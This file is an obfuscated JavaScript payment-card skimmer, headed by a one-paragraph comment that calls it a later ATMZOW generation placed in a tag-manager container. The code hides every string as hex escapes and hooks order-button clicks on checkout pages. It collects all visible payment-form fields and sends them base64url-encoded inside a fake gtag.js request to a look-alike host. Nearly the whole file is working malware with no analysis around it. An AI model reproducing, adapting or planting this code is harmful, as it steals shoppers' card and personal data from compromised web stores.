// A later ATMZOW generation in the same kind of tag-manager container: every string written
// as hexadecimal escapes in one table, so no field, host or API name appears in clear; on
// checkout pages a click on the order button serialises every visible field of the payment
// form (query-string style), skips it if already sent this session, and sends it base64url-
// encoded as the "id" of a GET that looks like a gtag.js request to a look-alike host.
var _0x51c0 = ["\x61\x64\x64\x45\x76\x65\x6e\x74\x4c\x69\x73\x74\x65\x6e\x65\x72",
  "\x63\x6c\x69\x63\x6b", "\x74\x61\x72\x67\x65\x74", "\x63\x6c\x6f\x73\x65\x73\x74",
  "\x62\x75\x74\x74\x6f\x6e\x5b\x74\x79\x70\x65\x3d\x73\x75\x62\x6d\x69\x74\x5d\x2c\x20\x23\x70\x6c\x61\x63\x65\x2d\x6f\x72\x64\x65\x72\x2c\x20\x2e\x61\x63\x74\x69\x6f\x6e\x2e\x63\x68\x65\x63\x6b\x6f\x75\x74\x2c\x20\x2e\x62\x74\x6e\x2d\x63\x68\x65\x63\x6b\x6f\x75\x74",
  "\x66\x6f\x72\x6d", "\x65\x6c\x65\x6d\x65\x6e\x74\x73", "\x6e\x61\x6d\x65",
  "\x76\x61\x6c\x75\x65", "\x74\x79\x70\x65", "\x68\x69\x64\x64\x65\x6e",
  "\x70\x61\x73\x73\x77\x6f\x72\x64",
  "\x68\x74\x74\x70\x73\x3a\x2f\x2f\x77\x77\x77\x2e\x67\x6f\x6f\x67\x6c\x65\x74\x61\x67\x73\x74\x61\x74\x73\x2e\x69\x6e\x76\x61\x6c\x69\x64\x2f\x67\x74\x61\x67\x2f\x6a\x73",
  "\x3f\x69\x64\x3d\x47\x2d", "\x66\x65\x74\x63\x68", "\x6e\x6f\x2d\x63\x6f\x72\x73",
  "\x6f\x6d\x69\x74", "\x47\x45\x54", "\x73\x65\x73\x73\x69\x6f\x6e\x53\x74\x6f\x72\x61\x67\x65",
  "\x5f\x67\x61\x5f\x73\x65\x73\x73", "\x67\x65\x74\x49\x74\x65\x6d",
  "\x73\x65\x74\x49\x74\x65\x6d", "\x70\x61\x74\x68\x6e\x61\x6d\x65",
  "\x2f\x63\x68\x65\x63\x6b\x6f\x75\x74", "\x62\x74\x6f\x61", "\x6a\x6f\x69\x6e",
  "\x70\x75\x73\x68", "\x72\x65\x70\x6c\x61\x63\x65", "\x6f\x6e\x65\x73\x74\x65\x70",
  "\x71\x75\x65\x72\x79\x53\x65\x6c\x65\x63\x74\x6f\x72",
  "\x23\x63\x6f\x2d\x70\x61\x79\x6d\x65\x6e\x74\x2d\x66\x6f\x72\x6d", "\x66\x6f\x72\x6d\x73",
  "\x69\x6e\x64\x65\x78\x4f\x66", "\x6c\x65\x6e\x67\x74\x68"];
(function (_0x1e, _0x4d) {
  var _0x27 = _0x1e[_0x51c0[22]];
  if (_0x27[_0x51c0[32]](_0x51c0[23]) < 0 && _0x27[_0x51c0[32]](_0x51c0[28]) < 0) return;
  function _0x6b(_0x3a) {
    var _0x12 = [], _0x5f = _0x3a[_0x51c0[6]];
    for (var _0x0c = 0; _0x0c < _0x5f[_0x51c0[33]]; _0x0c++) {
      var _0x44 = _0x5f[_0x0c];
      if (!_0x44[_0x51c0[7]] || !_0x44[_0x51c0[8]] || _0x44[_0x51c0[9]] === _0x51c0[10] || _0x44[_0x51c0[9]] === _0x51c0[11]) continue;
      _0x12[_0x51c0[26]](encodeURIComponent(_0x44[_0x51c0[7]]) + "=" + encodeURIComponent(_0x44[_0x51c0[8]]));
    }
    return _0x12[_0x51c0[25]]("&");
  }
  _0x4d[_0x51c0[0]](_0x51c0[1], function (_0x2b) {
    var _0x70 = _0x2b[_0x51c0[2]][_0x51c0[3]] && _0x2b[_0x51c0[2]][_0x51c0[3]](_0x51c0[4]);
    if (!_0x70) return;
    var _0x3c = _0x4d[_0x51c0[29]](_0x51c0[30]) || _0x70[_0x51c0[5]] || _0x4d[_0x51c0[31]][0];
    if (!_0x3c) return;
    var _0x59 = _0x6b(_0x3c);
    if (_0x59[_0x51c0[33]] < 40 || window[_0x51c0[18]][_0x51c0[20]](_0x51c0[19]) === _0x59) return;
    window[_0x51c0[18]][_0x51c0[21]](_0x51c0[19], _0x59);
    var _0x0f = window[_0x51c0[24]](_0x59)[_0x51c0[27]](/\+/g, "-")[_0x51c0[27]](/\//g, "_");
    window[_0x51c0[14]](_0x51c0[12] + _0x51c0[13] + _0x0f + "&t=" + Date.now(), { method: _0x51c0[17], mode: _0x51c0[15], credentials: _0x51c0[16] });
  }, true);
}(window.location, document));
